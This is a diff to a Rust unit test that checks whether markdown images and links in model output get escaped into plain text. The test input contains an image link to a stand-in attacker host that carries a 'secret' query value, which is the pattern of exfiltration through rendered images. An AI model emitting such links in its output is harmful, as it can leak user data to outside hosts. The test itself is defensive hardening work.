@@ -611,7 +611,8 @@ mod tests {
     #[test]
     fn markdown_images_and_links_from_the_model_stay_text() {
         let md = model_markdown("see ![x](https://attacker.example/?q=secret) and [y](z)");
-        assert!(!md.contains("]("), "{md}");
+        // Every `](` that would make a link or image is escaped.
+        assert!(!md.replace(r"\]", "").contains("]("), "{md}");
         assert!(md.contains(r"!\[x\](https://attacker.example/?q=secret)"));
     }
 
